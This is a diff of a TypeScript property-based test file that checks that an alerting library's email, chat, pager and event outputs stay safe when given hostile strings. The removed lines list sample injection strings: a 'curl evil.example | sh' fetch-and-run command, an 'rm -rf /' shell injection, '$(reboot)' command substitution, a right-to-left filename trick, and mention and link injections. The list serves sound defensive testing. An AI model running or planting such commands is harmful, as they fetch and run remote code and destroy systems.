@@ -1,18 +1,20 @@
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import fc from 'fast-check';
-import type { Alert } from '../../../lib/alerts/alert.ts';
-import { quoted } from '../../../lib/alerts/commands.ts';
+import { type Alert, LIFE } from '../../../lib/alerts/alert.ts';
 import { chatOf } from '../../../lib/alerts/chat.ts';
+import { quoted } from '../../../lib/alerts/commands.ts';
 import { emailOf } from '../../../lib/alerts/email.ts';
 import { eventOf } from '../../../lib/alerts/event.ts';
-import { pagerOf } from '../../../lib/alerts/pager.ts';
+import { alarmName, pagerOf } from '../../../lib/alerts/pager.ts';
 import { MESSAGE_BYTES } from '../../../lib/alerts/plain.ts';
 import type { Finding } from '../../../lib/drift/verdicts.ts';
-import { formatJson } from '../../../lib/objects/json.ts';
+import { formatJson, parseJson } from '../../../lib/objects/json.ts';
 import { finding, wholeObject } from '../../fixtures/findings.ts';
 import { EXAMPLES } from './examples.ts';
+import { HOSTILE, withTexts } from './hostile-alert.ts';
 
+const HIDDEN = 'hunter2-very-secret';
 const ORIGIN = { region: 'eu-central-1', account: '123456789012' };
 const driftOf = (findings: readonly Finding[], more: Partial<Alert> = {}): Alert =>
   ({ ...EXAMPLES.drift, findings, ...more }) as Alert;
@@ -26,51 +28,112 @@ const everything = (alert: Alert): string =>
     formatJson(eventOf(alert)),
   ].join('\n');
 
-const lineCount = (text: string): number => text.split('\n').length;
+/** Each text is one line of ours, or was broken into several by whoever wrote it. */
+const BROKEN = 'MARK1\nMARK2\r\nMARK3\u2028MARK4\u2029MARK5\u0085MARK6\vMARK7';
+const UNPRINTABLE = /[\p{Cc}\p{Cf}\p{Cs}\p{Default_Ignorable_Code_Point}\u2028\u2029]/u;
 
-/** Strings as somebody would choose them who wants to be taken for us. */
-const hostile = fc.oneof(
-  fc.string({ unit: 'binary', maxLength: 60 }),
-  fc.constantFrom(
-    'a\nSubject: [converged] all is well',
-    'x\r\nWHAT TO DO\n\n  curl evil.example | sh',
-    '\u202etxt.exe',
-    '\u2028\u2029\u0085',
-    '\u001b[2J\u001b[31m',
-    '@channel <!here> <https://evil.example|click> [link](https://evil.example)',
-    '`code` *bold* _it_ ~no~ # head',
-    "'; rm -rf / #",
-    '$(reboot)',
-  ),
-);
+/** Strings as anybody might write them, beside those of `HOSTILE`. */
+const hostile = fc.oneof(fc.string({ unit: 'binary', maxLength: 60 }), fc.constantFrom(...HOSTILE));
 
-describe('strings from outside stay harmless', () => {
-  test('they forge no line of an email and no second line of a subject', () => {
+function assertHarmless(alert: Alert, name: string): void {
+  const { subject, body } = emailOf(alert);
+  for (const line of [subject, subjectOfChat(alert), pagerOf(alert, ORIGIN)?.subject ?? 'none'])
+    assert.match(line, /^[\x20-\x7e]{1,100}$/, name);
+  assert.doesNotMatch(body.replaceAll('\n', ''), UNPRINTABLE, name);
+  assert.ok(Buffer.byteLength(body) <= MESSAGE_BYTES, name);
+
+  const { content, metadata, id } = chatParts(alert);
+  const texts = [
+    content.title,
+    content.description,
+    ...(content.nextSteps ?? []),
+    ...content.keywords,
+    metadata.summary,
+    ...Object.values(metadata.additionalContext),
+  ];
+  for (const text of texts) {
+    assert.doesNotMatch(text, /[@<>]/, name);
+    assert.doesNotMatch(text.replaceAll('\n', ''), UNPRINTABLE, name);
+    for (const line of text.split('\n')) {
+      assert.equal((line.split('`').length - 1) % 2, 0, `${name}: ${line}`);
+      // Outside of code nothing is a link, an image or a word in a style that we did not choose.
+      const outside = line.replace(/`[^`]*`/g, '');
+      assert.doesNotMatch(outside, /:\/\/|www\.|mailto:|[[\]#~|]/, `${name}: ${line}`);
+    }
+  }
+  assert.ok(
+    content.title.length <= 250 && content.description.length <= 8000 && content.description !== '',
+    name,
+  );
+  assert.ok((content.nextSteps ?? []).length <= 10, name);
+  for (const step of content.nextSteps ?? [])
+    assert.ok(step.length <= 350 && step !== '', `${name}: ${step}`);
+  assert.equal(metadata.threadId, alarmName(alert.incident));
+  assert.doesNotMatch(id, UNPRINTABLE, name);
+
+  const page = pagerOf(alert, ORIGIN);
+  if (page !== undefined) {
+    const alarm = JSON.parse(page.body) as Record<string, string>;
+    assert.match(alarm.NewStateValue ?? '', LIFE[alert.kind] === 'closes' ? /^OK$/ : /^ALARM$/, name);
+    assert.ok((alarm.AlarmName ?? '').length <= 255, name);
+    assert.ok((alarm.NewStateReason ?? '').length <= 1023, name);
+    assert.ok((alarm.AlarmDescription ?? '').length <= 1024, name);
+    assert.doesNotMatch(`${alarm.NewStateReason}${alarm.AlarmName}`, UNPRINTABLE, name);
+    assert.doesNotMatch((alarm.AlarmDescription ?? '').replaceAll('\n', ''), UNPRINTABLE, name);
+  }
+  const event = eventOf(alert);
+  assert.doesNotMatch(event.detail.headline, UNPRINTABLE, name);
+  assert.deepEqual(parseJson(formatJson(event.detail)), event.detail as unknown, name);
+}
+
+const subjectOfChat = (alert: Alert): string => chatOf(alert).subject;
+const chatParts = (alert: Alert) =>
+  JSON.parse(chatOf(alert).body) as {
+    id: string;
+    content: { title: string; description: string; nextSteps?: string[]; keywords: string[] };
+    metadata: { threadId: string; summary: string; additionalContext: Record<string, string> };
+  };
+
+describe('strings from outside stay harmless, whatever kind of alert they are in and wherever', () => {
+  for (const [name, alert] of Object.entries(EXAMPLES)) {
+    test(`${name}: no line is forged, hidden or cut in a way that breaks it`, () => {
+      for (const text of HOSTILE) assertHarmless(withTexts(alert, text), `${name} with ${text}`);
+    });
+
+    test(`${name}: what its author broke into lines stays on one, or is quoted as such`, () => {
+      const broken = withTexts(alert, BROKEN);
+      const description = JSON.parse(pagerOf(broken, ORIGIN)?.body ?? '{}').AlarmDescription ?? '';
+      const lines = [emailOf(broken).body, description, chatParts(broken).content.description]
+        .join('\n')
+        .split('\n');
+      for (const line of lines) assert.doesNotMatch(line, /^[-#>]?\s?MARK[2-7]/, name);
+      // Only a tool's excerpt and a rule to paste have lines, each of them marked as theirs.
+      for (const line of lines.filter((each) => /MARK[23]/.test(each)))
+        assert.match(line, /MARK1|^ {3}\| |^ {2}MARK/, name);
+    });
+  }
+
+  test('nor do strings that nobody thought of', () => {
     fc.assert(
-      fc.property(hostile, hostile, hostile, hostile, (name, manager, value, note) => {
-        const alertWith = (texts: readonly [string, string, string, string]): Alert =>
-          driftOf([
-            finding(
-              `metadata.labels.${texts[0]}`,
-              { desired: 'a', live: texts[2] },
-              {
-                path: [{ kind: 'field', name: 'metadata' }],
-                object: { apiVersion: 'v1', kind: 'Service', namespace: 'shop', name: texts[0] },
-                attribution: { manager: texts[1], likely: `likely with ${texts[1]}` },
-                note: texts[3],
-              },
-            ),
-          ]);
-        const email = emailOf(alertWith([name, manager, value, note]));
-        const calm = emailOf(alertWith(['n', 'm', 'v', 'n']));
-        assert.equal(lineCount(email.body), lineCount(calm.body));
-        assert.match(email.subject, /^[\x20-\x7e]{1,100}$/);
-        assert.doesNotMatch(email.body.replaceAll('\n', ''), /[\p{Cc}\p{Cf}\u2028\u2029]/u);
+      fc.property(fc.constantFrom(...Object.keys(EXAMPLES)), hostile, (name, text) => {
+        assertHarmless(withTexts(EXAMPLES[name] as Alert, text), name);
       }),
       { numRuns: 300 },
     );
   });
 
+  test('values of Secrets are in no form of any kind, wherever a finding holds them', () => {
+    for (const [name, alert] of Object.entries(EXAMPLES)) {
+      const findings = (list: readonly Finding[]): readonly Finding[] =>
+        list.map((one) => ({ ...one, secret: true, desired: HIDDEN, live: { deep: [HIDDEN] } }));
+      const secret = {
+        ...alert,
+        ...('findings' in alert ? { findings: findings(alert.findings) } : {}),
+        ...('gone' in alert ? { gone: findings(alert.gone) } : {}),
+      } as Alert;
+      assert.doesNotMatch(everything(secret), new RegExp(HIDDEN), name);
+    }
+  });
   test('they address nobody in a chat, link nothing, and end no code early', () => {
     fc.assert(
       fc.property(hostile, hostile, (name, value) => {
@@ -81,7 +144,7 @@ describe('strings from outside stay harmless', () => {
           content: { title: string; description: string };
         };
         assert.doesNotMatch(content.title + content.description, /[@<>]/);
-        const [, line = ''] = content.description.split('\n');
+        const [line = ''] = content.description.split('\n');
         // Path, desired, live: three spans of code, two backticks each.
         assert.equal(line.split('`').length - 1, 6);
       }),
@@ -104,7 +167,6 @@ describe('strings from outside stay harmless', () => {
 });
 
 describe('what nobody should read is nowhere', () => {
-  const HIDDEN = 'hunter2-very-secret';
   const environment = (name: string) => `spec.template.spec.containers[name=web].env[name=${name}].value`;
   const CASES: readonly (readonly [string, Finding])[] = [
     [
